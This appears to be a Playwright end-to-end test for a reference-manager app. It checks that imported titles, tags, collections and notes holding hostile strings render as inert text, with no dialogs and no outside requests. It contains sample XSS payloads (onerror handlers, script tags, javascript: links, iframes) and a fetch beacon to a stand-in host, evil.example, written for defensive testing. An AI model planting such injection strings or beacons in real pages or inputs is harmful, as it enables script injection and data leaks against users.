// Hostile content in the app: every string of test/fixtures/hostile, imported through
// every import format (and as collection, tag and note text), is shown as inert text in
// every view. No dialog opens, no popup, no request leaves the server's origin (each is
// stopped and recorded), no CSP violation, nothing live in the DOM; and the 1 MB title
// does not stall the page.
import type { Page } from '@playwright/test';
import { hostileFiles, hostileStrings, ONE_MB_TITLE } from '../test/fixtures/hostile/hostile';
import { expect, test } from './support/fixtures';
import { call, liveContent, watchPage } from './support/hostile-page';
import { startSheafServer } from './support/sheaf-server';

test.describe.configure({ timeout: 300_000 });

const strings = hostileStrings({ large: true });
const rows = (page: Page) => page.getByTestId('item-list').locator('[role="row"][data-id]');

/** Clicks the first few rows of the current view, and the 1 MB title's row if it is there. */
async function visitRows(page: Page, seen: string[]): Promise<void> {
  await expect(page.getByTestId('view-title')).toBeVisible();
  const count = Math.min(await rows(page).count(), 6);
  for (let i = 0; i < count; i++) {
    await rows(page).nth(i).click();
    await expect(page.locator('[data-pane="item"]')).toBeVisible();
    seen.push(...(await liveContent(page)));
  }
}

test('hostile titles, authors, abstracts, links, collections, tags and notes stay inert text', async ({
  page,
  request,
}) => {
  const sheaf = await startSheafServer();
  try {
    const formats = (await call<{ id: string }[]>(request, sheaf, 'import.formats')).map((f) => f.id);
    const files = hostileFiles(strings, formats);
    const collection = await call<{ id: number }>(request, sheaf, 'collections.create', {
      name: `<img src=x onerror=alert("collection")> ${'\u202E'}evil`,
      parentId: null,
    });
    for (const file of files) {
      const preview = await call<{ id: string }>(request, sheaf, 'import.preview', {
        input: { text: file.text, name: file.name },
        yearHint: 2025,
      });
      await call(request, sheaf, 'import.commit', {
        previewId: preview.id,
        ...(file.format === 'csl-json' ? { collectionId: collection.id } : {}),
      });
    }
    const someIds = await call<number[]>(request, sheaf, 'items.ids', {
      view: { kind: 'library' },
      sort: { field: 'added', direction: 'asc' },
      offset: 0,
      limit: 20,
    });
    await call(request, sheaf, 'tags.add', {
      itemIds: someIds,
      names: ['<script>alert("tag")</script>', 'javascript:alert(1)', '\u202Etag'],
    });
    await call(request, sheaf, 'notes.create', {
      itemId: someIds[0],
      body: hostileStrings()
        .map((s) => s.text)
        .concat([
          '[js](javascript:alert("note"))',
          '![img](https://evil.example/x.png)',
          '<iframe src="https://evil.example"></iframe>',
        ])
        .join('\n\n'),
    });

    const trouble = await watchPage(page, sheaf.origin);
    const live: string[] = [];
    await page.goto(sheaf.url);
    await expect(page.locator('[data-ready="true"]')).toBeVisible();

    // Every view: the library, each digest, the collection, unfiled, the trash, the notes.
    await page.getByTestId('view-library').click();
    await visitRows(page, live);
    const digests = await call<{ id: number }[]>(request, sheaf, 'digests.list');
    expect(digests.length).toBeGreaterThan(0);
    for (const digest of digests) {
      await page.getByTestId(`digest-${digest.id}`).click();
      await visitRows(page, live);
    }
    await page.locator('[data-testid^="collection-"]').first().click();
    await visitRows(page, live);
    await page.getByTestId('view-unfiled').click();
    await visitRows(page, live);
    await call(request, sheaf, 'items.trash', { ids: someIds.slice(5, 10) });
    await page.getByTestId('view-trash').click();
    await visitRows(page, live);
    await page.getByTestId('view-notes').click();
    const note = page.getByTestId('notes-list').locator('[role="option"], li, [data-id]').first();
    if (await note.count()) await note.click();
    live.push(...(await liveContent(page)));

    // The 1 MB title: found by search, shown, and the page still answers at once afterwards.
    await page.getByTestId('view-library').click();
    const search = page.getByRole('searchbox').first();
    await search.fill('"A 1 MB title"');
    await expect(rows(page)).toHaveCount(1, { timeout: 30_000 });
    const started = Date.now();
    await rows(page).first().click();
    // The whole stored title is shown (compared by length and start: a failure must not print a megabyte).
    const id = Number(await rows(page).first().getAttribute('data-id'));
    const stored = (await call<{ title: string }>(request, sheaf, 'items.get', { id })).title;
    expect(stored.length).toBeGreaterThan(900_000);
    const title = page.locator('[data-pane="item"]').getByRole('textbox', { name: 'Title' });
    await expect
      .poll(() => title.evaluate((field) => (field as HTMLTextAreaElement).value.length), { timeout: 30_000 })
      .toBe(stored.length);
    expect(await title.evaluate((field) => (field as HTMLTextAreaElement).value.slice(0, 12))).toBe(
      ONE_MB_TITLE.slice(0, 12),
    );
    const shown = Date.now() - started;
    const answered = Date.now();
    await page.evaluate(() => document.title);
    expect(Date.now() - answered, 'the page stalled after showing the 1 MB title').toBeLessThan(2000);
    live.push(...(await liveContent(page)));

    expect(live, 'live content in the DOM').toEqual([]);
    expect(trouble).toEqual({ dialogs: [], popups: [], outside: [], violations: [] });
    test.info().annotations.push({ type: 'timing', description: `1 MB title shown in ${shown} ms` });
  } finally {
    await sheaf.stop();
  }
});

test('the watch itself notices live content, a request leaving and a dialog', async ({ page, sheaf }) => {
  const trouble = await watchPage(page, sheaf.origin);
  await page.goto(sheaf.url);
  await expect(page.locator('[data-ready="true"]')).toBeVisible();
  // What a successful injection would do: the watch must see each of these.
  await page.evaluate(() => {
    const holder = document.createElement('div');
    holder.setAttribute('onclick', 'alert(1)');
    const link = document.createElement('a');
    link.href = 'javascript:void 0';
    holder.append(link, document.createElement('iframe'));
    document.body.append(holder);
    void fetch('https://evil.example/beacon').catch(() => {});
    window.alert('injected');
  });
  expect(await liveContent(page)).toEqual(['div[onclick]', 'a[href=javascript:void 0]', '<iframe>']);
  await expect.poll(() => trouble.dialogs).toEqual(['alert: injected']);
  await expect.poll(() => trouble.violations.length + trouble.outside.length).toBeGreaterThan(0);
});
